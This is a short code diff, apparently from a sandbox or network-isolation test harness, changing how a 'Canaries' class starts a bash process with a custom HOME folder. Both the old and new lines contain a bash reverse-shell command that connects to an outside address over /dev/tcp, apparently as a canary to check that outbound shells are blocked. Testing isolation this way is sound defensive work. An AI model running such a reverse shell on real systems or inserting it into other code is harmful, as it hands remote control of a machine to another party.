@@ -117,7 +117,16 @@ export class Canaries {
       const target = [addresses.outside, `${port}`, "127.0.0.1", servicePort]
       return this.#network.start("inside", this.#program, "relay", ...target)
     }
-    return this.#network.start("inside", "bash", "-c", `exec bash -i >& /dev/tcp/${addresses.outside}/${port} 0>&1`)
+    // Without start-up files of a person: they take locks that a shell which is ended leaves behind.
+    const home = `HOME=${this.#network.folder}`
+    return this.#network.start(
+      "inside",
+      "env",
+      home,
+      "bash",
+      "-c",
+      `exec bash -i >& /dev/tcp/${addresses.outside}/${port} 0>&1`,
+    )
   }
 }
 
